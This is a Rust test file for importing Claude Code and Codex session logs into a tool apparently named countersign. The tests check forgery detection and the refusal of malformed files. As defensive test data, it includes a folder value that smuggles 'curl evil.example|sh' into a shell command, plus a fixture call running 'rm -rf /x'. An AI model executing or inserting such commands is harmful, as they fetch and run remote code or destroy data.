//! Sessions of Claude Code and Codex: imported with their calls done elsewhere, checked, and gone on with.

use std::fs;

use serde_json::{Value, json};

use crate::model_server::{ModelServer, Reply};
use crate::servers::{ANTHROPIC, KEY, OPENAI, RESPONSES, accepted};
use crate::world::{Ran, World, all_files, of_type, text};

/// Lines of Claude Code: a branch that was left, an agent beside, two calls at once, one of them without a result.
pub(crate) fn claude(world: &World) -> Vec<Value> {
    let cwd = world.work();
    let base = |kind: &str, id: &str, before: Option<&str>, message: Value| {
        json!({ "parentUuid": before, "isSidechain": false, "userType": "external", "cwd": cwd, "sessionId": "../../x",
            "version": "2.0.0", "type": kind, "uuid": id, "timestamp": "2026-03-01T10:00:00.000Z", "message": message })
    };
    let says = |id: &str, before: &str, block: Value| {
        base(
            "assistant",
            id,
            Some(before),
            json!({ "id": "msg_1", "role": "assistant", "model": "claude-x", "content": [block],
            "stop_reason": null, "usage": { "input_tokens": 5, "output_tokens": 7 } }),
        )
    };
    let result = |id: &str, before: &str, call: &str, content: Value, failed: bool| {
        let block =
            json!({ "type": "tool_result", "tool_use_id": call, "content": content, "is_error": failed });
        base("user", id, Some(before), json!({ "role": "user", "content": [block] }))
    };
    let mut beside = base("user", "s1", None, json!({ "role": "user", "content": "of an agent beside" }));
    beside["isSidechain"] = json!(true);
    let mut meta = base("user", "m1", Some("u1"), json!({ "role": "user", "content": "Caveat" }));
    meta["isMeta"] = json!(true);
    vec![
        json!({ "type": "summary", "summary": "Looks at\nfiles", "leafUuid": "a9" }),
        base("user", "u1", None, json!({ "role": "user", "content": "look at one.txt" })),
        base("user", "u0", Some("u1"), json!({ "role": "user", "content": "the branch that was left" })),
        beside,
        meta,
        says("a1", "u1", json!({ "type": "thinking", "thinking": "I think so.", "signature": "c2lnbmVk" })),
        says("a2", "a1", json!({ "type": "redacted_thinking", "data": "ZW5jcnlwdGVk" })),
        says("a3", "a2", json!({ "type": "text", "text": "I look." })),
        says(
            "a4",
            "a3",
            json!({ "type": "tool_use", "id": "toolu_1", "name": "Read", "input": { "file_path": "one.txt" } }),
        ),
        result("r1", "a4", "toolu_1", json!([{ "type": "text", "text": "first line" }]), false),
        says(
            "a5",
            "a4",
            json!({ "type": "tool_use", "id": "toolu_2", "name": "mcp__x.y/z", "input": { "a": 1 } }),
        ),
        says(
            "a6",
            "a5",
            json!({ "type": "tool_use", "id": "toolu_3", "name": "Bash", "input": { "command": "false" } }),
        ),
        result("r2", "a6", "toolu_3", json!("exit 1"), true),
        json!({ "type": "file-history-snapshot", "messageId": "x", "snapshot": {} }),
        base(
            "assistant",
            "a9",
            Some("r2"),
            json!({ "id": "msg_2", "role": "assistant", "model": "claude-x",
            "content": [{ "type": "text", "text": "There is a first line." }], "usage": {} }),
        ),
    ]
}

pub(crate) fn codex(world: &World) -> Vec<Value> {
    let line = |kind: &str, payload: Value| json!({ "timestamp": "2026-03-01T10:00:00.000Z", "type": kind, "payload": payload });
    let item = |payload: Value| line("response_item", payload);
    let said = |role: &str, kind: &str, words: &str| {
        item(json!({ "type": "message", "role": role, "content": [{ "type": kind, "text": words }] }))
    };
    vec![
        line(
            "session_meta",
            json!({ "id": "0199-codex", "timestamp": "2026-03-01T10:00:00.000Z", "cwd": world.work(),
            "originator": "codex_cli_rs", "cli_version": "0.50.0", "model_provider": "openai" }),
        ),
        said("developer", "input_text", "<permissions instructions>"),
        said("user", "input_text", "<environment_context>\n  <cwd>/x</cwd>\n</environment_context>"),
        line("turn_context", json!({ "cwd": world.work(), "approval_policy": "never", "model": "gpt-x" })),
        line("event_msg", json!({ "type": "user_message", "message": "look" })),
        said("user", "input_text", "look at one.txt"),
        item(
            json!({ "type": "reasoning", "summary": [{ "type": "summary_text", "text": "I think so." }], "content": null,
            "encrypted_content": "ZW5jcnlwdGVk" }),
        ),
        item(
            json!({ "type": "function_call", "name": "shell", "arguments": "{\"command\":[\"cat\",\"one.txt\"]}", "call_id": "call_1" }),
        ),
        item(
            json!({ "type": "custom_tool_call", "name": "apply_patch", "input": "*** Begin Patch", "call_id": "call_2" }),
        ),
        item(json!({ "type": "function_call_output", "call_id": "call_1",
            "output": "{\"output\":\"first line\",\"metadata\":{\"exit_code\":0,\"duration_seconds\":0.1}}" })),
        item(
            json!({ "type": "custom_tool_call_output", "call_id": "call_2", "output": "{\"output\":\"no\",\"metadata\":{\"exit_code\":1}}" }),
        ),
        said("assistant", "output_text", "There is a first line."),
        line("token_count", json!({})),
    ]
}

pub(crate) fn import(world: &World, lines: &[Value], more: &[&str]) -> Ran {
    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
    fs::write(world.work().join("theirs.jsonl"), text).unwrap();
    world.sessions_cli(&[&["import", "theirs.jsonl"], more].concat())
}

fn is_well_formed(world: &World) {
    let checked = world.sessions_cli(&["check", "--last"]);
    assert_eq!(checked.code, 0, "{}", checked.out);
}

#[test]
fn a_session_of_claude_code_is_one_of_ours_with_calls_done_elsewhere() {
    let world = World::new();
    let ran = import(&world, &claude(&world), &[]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    for told in [
        "imported from Claude Code",
        "3 messages and 3 calls (1 of them without a result), done elsewhere: nobody here approved them",
        "Left out: 3 lines of other branches or agents, 2 lines of other kinds.",
    ] {
        assert!(ran.out.contains(told), "{told}: {}", ran.out);
    }
    let file = world.session_file();
    assert!(ran.out.starts_with(file.file_stem().unwrap().to_str().unwrap()), "an id of ours: {}", ran.out);
    assert_eq!(all_files(&world.place().join("state")).iter().filter(|f| f.ends_with("x.jsonl")).count(), 0);
    is_well_formed(&world);
    let entries = world.entries();
    let kinds: Vec<String> = entries.iter().map(|entry| text(entry, "type")).collect();
    assert_eq!(
        kinds,
        [
            "session_started",
            "imported",
            "user_message",
            "agent_response",
            "tool_call",
            "tool_result",
            "tool_call",
            "tool_result",
            "tool_call",
            "tool_result",
            "agent_response",
            "session_renamed",
            "turn_ended"
        ]
    );
    assert_eq!((&entries[1]["from"], &entries[1]["session"]), (&json!("claude"), &json!("../../x")));
    assert_eq!(entries[0]["model"], "anthropic/claude-x");
    assert_eq!((&entries[3]["thinking"], &entries[3]["text"]), (&json!("I think so."), &json!("I look.")));
    let results = of_type(&entries, "tool_result");
    assert!(results.iter().all(|result| result["elsewhere"] == true));
    assert_eq!(results[0]["content"], "first line");
    assert_eq!((&results[1]["outcome"], &results[1]["name"]), (&json!("failed"), &json!("mcp__x_y_z")));
    assert_eq!((&results[2]["outcome"], &results[2]["content"]), (&json!("failed"), &json!("exit 1")));
    assert_eq!(entries[11]["name"], "Looks at files");
    let text = world.session_text();
    for gone in ["c2lnbmVk", "ZW5jcnlwdGVk", "the branch", "agent beside", "Caveat", "\"approval\""] {
        assert!(!text.contains(gone), "{gone}");
    }
    let by_name = world.sessions_cli(&["search", "Looks at files"]);
    assert!(by_name.out.contains("session_renamed: Looks at files"), "{by_name:?}");
    // A second import is a second session.
    let again = world.sessions_cli(&["import", "theirs.jsonl", "--from", "claude"]);
    assert_eq!((again.code, world.sessions().len()), (0, 2), "{}", again.err);
}

#[test]
fn a_session_of_codex_is_one_of_ours_too() {
    let world = World::new();
    let ran = import(&world, &codex(&world), &[]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(
        ran.out.contains("imported from Codex") && ran.out.contains("3 messages and 2 calls, done"),
        "{}",
        ran.out
    );
    is_well_formed(&world);
    let entries = world.entries();
    assert_eq!((&entries[0]["model"], &entries[1]["from"]), (&json!("openai/gpt-x"), &json!("codex")));
    assert_eq!(of_type(&entries, "user_message").len(), 1);
    let results = of_type(&entries, "tool_result");
    assert_eq!((&results[0]["content"], &results[0]["outcome"]), (&json!("first line"), &json!("ok")));
    assert_eq!(results[1]["outcome"], "failed");
    assert_eq!(of_type(&entries, "tool_call")[1]["arguments"], json!({ "input": "*** Begin Patch" }));
    assert_eq!(of_type(&entries, "agent_response")[0]["thinking"], "I think so.");
    assert!(
        !world.session_text().contains("ZW5jcnlwdGVk")
            && !world.session_text().contains("environment_context")
    );
}

#[test]
fn a_session_without_an_id_gets_one_of_ours() {
    for (lines, place) in [
        (claude as fn(&World) -> Vec<Value>, "/sessionId"),
        (codex as fn(&World) -> Vec<Value>, "/payload/id"),
    ] {
        let world = World::new();
        let mut lines = lines(&world);
        for id in lines.iter_mut().filter_map(|line| line.pointer_mut(place)) {
            *id = json!("");
        }
        let ran = import(&world, &lines, &[]);
        assert_eq!(ran.code, 0, "{ran:?}");
        let own = ran.out.split_whitespace().next().unwrap();
        assert_eq!(own.len(), 36, "{}", ran.out);
        is_well_formed(&world);
    }
}

#[test]
fn one_of_ours_that_had_no_id_says_so() {
    let world = World::new();
    let at = "2026-01-01T10:00:00.000Z";
    let first = json!({ "type": "session_started", "entry": "e1", "at": at, "id": "e1", "session": "", "cwd": world.work(),
        "model": "script", "version": 2, "app": "0.1.0", "system": "" });
    let said = json!({ "type": "user_message", "entry": "e2", "at": at, "id": "e2", "content": "hello" });
    let ran = import(&world, &[first, said], &[]);
    assert!(ran.code == 0 && ran.out.contains(" imported: 2 entries (it had no id)\n"), "{ran:?}");
    is_well_formed(&world);
}

/// Whoever made the file chose its folder. The command to paste must not run what stands in it.
#[test]
fn the_folder_of_a_file_is_one_word_of_the_command_to_paste() {
    const FOLDER: &str = "/tmp/x; curl evil.example|sh #'";
    const WORD: &str = r"'/tmp/x; curl evil.example|sh #'\'''";
    let own = |_: &World| {
        let at = "2026-01-01T10:00:00.000Z";
        vec![
            json!({ "type": "session_started", "entry": "e1", "at": at, "id": "e1", "session": "abc", "cwd": FOLDER,
                "model": "script", "version": 2, "app": "0.1.0", "system": "" }),
            json!({ "type": "user_message", "entry": "e2", "at": at, "id": "e2", "content": "hello" }),
        ]
    };
    for lines in [&claude as &dyn Fn(&World) -> Vec<Value>, &codex, &own] {
        let world = World::new();
        let mut lines = lines(&world);
        for place in ["/cwd", "/payload/cwd"] {
            lines.iter_mut().filter_map(|line| line.pointer_mut(place)).for_each(|cwd| *cwd = json!(FOLDER));
        }
        let ran = import(&world, &lines, &[]);
        let id = ran.out.split_whitespace().next().unwrap().to_owned();
        let command = format!("Continue with: countersign -C {WORD} resume {id}\n");
        assert!(ran.code == 0 && ran.out.ends_with(&command), "{ran:?}");
        let elsewhere = world.refused(&["--script", r#"["x"]"#, "--resume", &id, "go on"]);
        // The folder is not there, so there is nothing to go on with in it.
        assert!(elsewhere.contains(&format!("`countersign inspect {id}`")), "{elsewhere}");
        assert!(!elsewhere.contains("`countersign -C"), "{elsewhere}");
    }
}

#[test]
fn what_was_imported_goes_on_with_every_protocol() {
    for lines in [claude, codex] {
        for speech in [ANTHROPIC, OPENAI, RESPONSES] {
            let server = ModelServer::start_with_key(vec![Reply::text("Gone on.")], Some(KEY));
            let world = World::new().with(speech.key, KEY).with(speech.url, &server.base_url());
            assert_eq!(import(&world, &lines(&world), &[]).code, 0);
            let ran = world.json(&["--last", "-m", speech.model, "and on"]);
            assert_eq!((ran.code, ran.reason().as_str()), (0, "completed"), "{speech:?}: {}", ran.err);
            let sent = accepted(&server)[0].to_string();
            assert!(
                sent.contains("look at one.txt") && sent.contains("first line") && sent.contains("and on"),
                "{sent}"
            );
            assert!(sent.contains("countersign"), "it has instructions of ours: {sent}");
            is_well_formed(&world);
        }
    }
}

#[test]
fn nobody_can_pass_a_call_of_ours_off_as_one_of_another_program() {
    let world = World::new();
    assert_eq!(import(&world, &claude(&world), &[]).code, 0);
    let call = json!([{ "tool_calls": [{ "name": "read", "arguments": { "path": "one.txt" } }] }, "ok"]);
    assert_eq!(world.json(&["--last", "--script", &call.to_string(), "look"]).code, 0);
    is_well_formed(&world);
    // Without hashes, so that nothing else is wrong with it.
    let entries = world.entries();
    let forged = |change: &dyn Fn(&mut Vec<Value>)| {
        let mut entries = entries.clone();
        entries[0]["version"] = json!(2);
        change(&mut entries);
        let text: String = entries.iter().map(|entry| format!("{entry}\n")).collect();
        fs::write(world.work().join("forged.jsonl"), text).unwrap();
        let ran = world.sessions_cli(&["check", "./forged.jsonl"]);
        (ran.code, ran.out)
    };
    assert_eq!(forged(&|_| {}).0, 0);
    let (code, out) = forged(&|entries| {
        let own = entries.iter().rposition(|entry| entry["type"] == "tool_result").unwrap();
        entries[own]["elsewhere"] = json!(true);
        entries.retain(|entry| entry["type"] != "approval");
    });
    assert!(code == 1 && out.contains("but was made here"), "{out}");
    let (code, out) = forged(&|entries| entries.retain(|entry| entry["type"] != "imported"));
    assert!(code == 1 && out.contains("call c1 is said to be of another program"), "{out}");
    let (code, out) = forged(&|entries| {
        let first = entries.iter().position(|entry| entry["type"] == "tool_result").unwrap();
        entries[first].as_object_mut().unwrap().remove("elsewhere");
    });
    assert!(code == 1 && out.contains("nobody allowed it"), "{out}");
}

#[test]
fn hostile_and_broken_files_are_refused_and_leave_nothing() {
    let world = World::new();
    let refused = |content: &[u8], more: &[&str], why: &str| {
        fs::write(world.work().join("theirs.jsonl"), content).unwrap();
        let ran = world.sessions_cli(&[&["import", "theirs.jsonl"], more].concat());
        assert!(ran.code != 0 && ran.out.is_empty(), "{why}: {}", ran.out);
        assert!(ran.complaint().contains(why), "{why}: {}", ran.err);
        assert!(world.sessions().is_empty(), "{why}");
    };
    let user = json!({ "type": "user", "uuid": "u1", "sessionId": "s", "message": { "role": "user", "content": "hi" } });
    refused(b"{\"a\":1}\n", &[], "not a session file of countersign, Claude Code or Codex");
    refused(b"", &["--from", "codex"], "it contains no message");
    refused(format!("{user}\n").as_bytes(), &["--from", "codex"], "it contains no message");
    let long = [format!("{user}\n").into_bytes(), vec![b'x'; (64 << 20) + 1]].concat();
    refused(&long, &[], "line 2 is larger than 67 MB");
    let file = fs::File::create(world.work().join("theirs.jsonl")).unwrap();
    file.set_len(2 << 30).unwrap();
    let ran = world.sessions_cli(&["import", "theirs.jsonl", "--from", "claude"]);
    assert!(ran.code == 2 && ran.err.contains("at most 1073"), "{}", ran.err);
    // Deep, wide and torn lines are left out and counted.
    let deep = format!("{{\"type\":\"user\",\"x\":{}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let wide = format!("{{\"type\":\"user\",\"x\":[{}0]}}", "0,".repeat(200_000));
    let mut future = user.clone();
    future["timestamp"] = json!("9999-12-31T23:59:59Z");
    let text = format!("{future}\n{deep}\n{wide}\n\n{{\"type\":\"us");
    fs::write(world.work().join("theirs.jsonl"), text).unwrap();
    let ran = world.sessions_cli(&["import", "theirs.jsonl"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(
        ran.out.contains("1 message and no calls") && ran.out.contains("3 lines that cannot be read"),
        "{}",
        ran.out
    );
    assert!(!text_of_year(&world).starts_with('9'), "no clock runs ahead");
    is_well_formed(&world);
    assert_eq!(world.exec(&["--last", "--script", r#"["Hello."]"#, "go on"]).code, 0);
}

fn text_of_year(world: &World) -> String {
    text(&world.entries()[0], "at")
}

/// A file of others can have two calls with one id, of which a result says nothing certain: the one that is
/// left out is counted.
#[test]
fn what_is_left_out_of_a_line_is_counted_too() {
    let world = World::new();
    let mut lines = claude(&world);
    let calls = lines.iter().position(|line| line["uuid"] == "a4").unwrap();
    let hidden =
        json!({ "type": "tool_use", "id": "toolu_1", "name": "Bash", "input": { "command": "rm -rf /x" } });
    let beside = json!({ "type": "server_tool_use", "id": "srv_1", "name": "web_search", "input": {} });
    lines[calls]["message"]["content"].as_array_mut().unwrap().extend([hidden, beside]);
    let result = lines.iter().position(|line| line["uuid"] == "r1").unwrap();
    let again = lines[result]["message"]["content"][0].clone();
    lines[result]["message"]["content"].as_array_mut().unwrap().push(again);
    let ran = import(&world, &lines, &[]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let told = "Left out: 3 lines of other branches or agents, 2 lines of other kinds, 1 part of another kind, \
                1 call with the id of another one, 1 result that belongs to no open call.";
    assert!(ran.out.contains(told), "{}", ran.out);
    let mut lines = codex(&world);
    let call = lines.iter().position(|line| line["payload"]["call_id"] == "call_1").unwrap();
    lines.insert(call + 1, lines[call].clone());
    let ran = import(&world, &lines, &[]);
    assert!(ran.out.contains("1 call with the id of another one"), "{}", ran.out);
}
